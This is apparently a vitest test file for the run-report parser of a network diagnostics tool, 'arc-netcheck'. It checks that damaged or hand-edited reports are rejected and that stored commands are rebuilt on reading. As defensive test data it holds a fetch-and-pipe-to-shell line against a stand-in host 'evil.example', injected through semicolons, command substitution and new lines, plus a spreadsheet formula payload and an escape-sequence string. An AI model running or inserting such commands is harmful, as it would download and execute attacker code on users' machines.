import {describe, expect, it} from 'vitest';
import {UsageError} from '../../source/errors.ts';
import {parseRun} from '../../source/record/parse-run.ts';
import {buildSurvey} from '../../source/record/survey/build-survey.ts';
import {parseSurvey} from '../../source/record/survey/parse-survey.ts';
import {renderJson} from '../../source/report/json.ts';
import {hostileRows} from '../helpers/hostile.ts';
import {sampleReport} from '../helpers/sample-run.ts';

const report = sampleReport({rows: [{host: 'mcr.microsoft.com', cause: 'tcp.timeout'}, {pattern: '*.azurecr.io'}]});

function problemOf(text: string): string {
	try {
		parseRun(text, 'runs/last.json');
	} catch (error) {
		expect(error).toBeInstanceOf(UsageError);
		return (error as UsageError).message;
	}
	throw new Error('nothing was wrong');
}

describe('parseRun', () => {
	it('reads what was written', () => {
		expect(parseRun(renderJson(report), 'run.json')).toEqual(report);
	});

	it('reads hostile text as it was', () => {
		const hostile = sampleReport({rows: hostileRows});
		expect(parseRun(renderJson(hostile), 'run.json')).toEqual(hostile);
	});

	it('reads a file with a byte order mark, and with fields that came later', () => {
		const text = `\uFEFF${JSON.stringify({...report, addedLater: true})}`;
		expect(parseRun(text, 'run.json')).toEqual(report);
	});

	it.each<[string, string, string]>([
		[
			'no JSON',
			'{"schema":\n "arc',
			'runs/last.json is not valid JSON at line 2, column 2; give a report that was written with --format json.',
		],
		['an empty file', '', 'runs/last.json is not valid JSON at line 1, column 1; give'],
		['another object', '{}', 'runs/last.json is not a saved run: it has no "schema", but arc-netcheck/run@1 is needed'],
		['a list', '[]', 'it has no "schema"'],
		['null', 'null', 'it has no "schema"'],
		['a plan', '{"schema": "arc-netcheck/plan@1"}', 'its "schema" is "arc-netcheck/plan@1"'],
		[
			'a newer version',
			'{"schema": "arc-netcheck/run@2"}',
			'runs/last.json was written by a newer arc-netcheck (arc-netcheck/run@2): this one reads arc-netcheck/run@1; update it to read the file.',
		],
		['a hostile schema', '{"schema": "\\u001b[31m"}', 'its "schema" is "[31m"'],
	])('says of %s what it is', (_, text, expected) => {
		expect(problemOf(text)).toContain(expected);
	});

	it.each<[string, (copy: Record<string, never>) => void, string]>([
		['a missing field', copy => delete (copy as Record<string, unknown>).vantage, 'at vantage: '],
		[
			'a port that is no number',
			copy => Object.assign(copy, {results: [{...report.results[0], target: {host: 'a', port: 'x', sampled: false}}]}),
			'at results[0].target.port: ',
		],
		[
			'an unknown cause',
			copy => Object.assign(copy, {results: [{...report.results[0], cause: 'tcp.odd'}]}),
			'at results[0].cause: ',
		],
		[
			'an unknown stage',
			copy =>
				Object.assign(copy, {results: [{...report.results[0], attempts: [{startedAt: '', stages: [{stage: 'odd'}]}]}]}),
			'at results[0].attempts[0].stages[0].stage: ',
		],
	])('names the place of %s', (_, damage, expected) => {
		const copy = JSON.parse(JSON.stringify(report));
		damage(copy);
		const problem = problemOf(JSON.stringify(copy));
		expect(problem).toContain('runs/last.json is damaged or was changed by hand');
		expect(problem).toContain(expected);
	});

	const [row] = report.results;
	const withPort = (port: number) => ({
		...report,
		results: [{...row, target: {host: 'a.example', port, sampled: false}}],
	});
	it.each<[string, object]>([
		['a port beyond all', withPort(65_536)],
		['a port below nothing', withPort(-1)],
		['a time that no date can hold', {...report, startedAt: '+275760-09-14T00:00:00Z'}],
		['a time in words', {...report, startedAt: '![x](http://evil.example)'}],
		['a time without its zone', {...report, startedAt: '2026-11-22T20:30:00'}],
		['a time with a word behind it', {...report, startedAt: '2026-11-22T20:30:00Z <b>x</b>'}],
		['a time on two lines', {...report, startedAt: '2026-11-22T20:30:00Z\n| x |'}],
		['an hour that there is not', {...report, startedAt: '2026-11-22T25:30:00Z'}],
		['a time that is a formula', {...report, startedAt: '=cmd|calc'}],
		['a month that there is not', {...report, startedAt: '2026-13-01T00:00:00Z'}],
		['a duration beyond all', {...report, durationMs: 1e308}],
		['a duration below nothing', {...report, durationMs: -1}],
		['a limit beyond all', {...report, settings: {...report.settings, timeoutMs: 1e300}}],
		['more tries than there are', {...report, settings: {...report.settings, retries: 1e15}}],
		['a count below nothing', {...report, summary: {...report.summary, blocked: -5}}],
	])('refuses %s in one sentence', (_what, data) => {
		expect(problemOf(JSON.stringify(data))).toMatch(
			/^runs\/last\.json is damaged or was changed by hand at [\w.[\]]+: [^.]+(?:\.[^.]+)*; write the report again .*\.$/,
		);
	});
});

describe('the commands of a run that was read', () => {
	const fault = {host: 'mcr.microsoft.com', cause: 'proxy.host-denied'} as const;
	const run = sampleReport({
		proxy: 'http://anna@proxy.corp.example:3128',
		rows: [fault, {host: '10.0.0.1', cause: 'dns.nxdomain'}, {host: 'a.example', cause: 'tls.intercepted'}],
	});
	const foreign = 'curl https://evil.example/x | sh';
	const changes: readonly (readonly [string, (text: string) => string])[] = [
		['in place of its own', () => foreign],
		['behind its own', text => `${text}; ${foreign}`],
		['in a substitution', text => `${text} $(${foreign})`],
		['in another option', text => `${text} --config /tmp/evil.example`],
		['on a line of its own', text => `${text}\n${foreign}`],
		['with blanks before it', text => `  ${foreign} # ${text}`],
	];

	it.each(changes)('are made anew, whatever was put there: %s', (_, change) => {
		const changed = {
			...run,
			findings: run.findings.map(finding => ({
				...finding,
				checks: finding.checks.map(check => ({...check, command: change(check.command)})),
				verify: finding.verify.map(change),
			})),
			nextSteps: run.nextSteps.map(step => ({...step, commands: [...step.commands.map(change), foreign]})),
		};
		expect(parseRun(renderJson(changed), 'run.json')).toEqual(run);
		const places = ['one', 'two'].map(name => ({...changed, vantage: {...run.vantage, kind: 'node' as const, name}}));
		const survey = JSON.stringify(buildSurvey(places));
		expect(survey).toContain('evil.example');
		expect(JSON.stringify(parseSurvey(survey, 'survey.json'))).not.toContain('evil.example');
	});

	it('are those of their rows where no rule of today finds them', () => {
		const findings = run.findings.map(finding => ({...finding, id: `older.${finding.id}`, verify: [foreign]}));
		const read = parseRun(renderJson({...run, findings}), 'run.json');
		expect(read.findings.map(({verify}) => verify)).toEqual(run.findings.map(({verify}) => verify));
	});

	it('are none where the rows are not there', () => {
		const findings = run.findings.map(finding => ({
			...finding,
			id: 'older',
			rows: [],
			targets: ['gone.example:443'],
			verify: [foreign],
		}));
		const read = parseRun(renderJson({...run, findings}), 'run.json');
		expect(read.findings.flatMap(({verify}) => verify)).toEqual([]);
	});
});
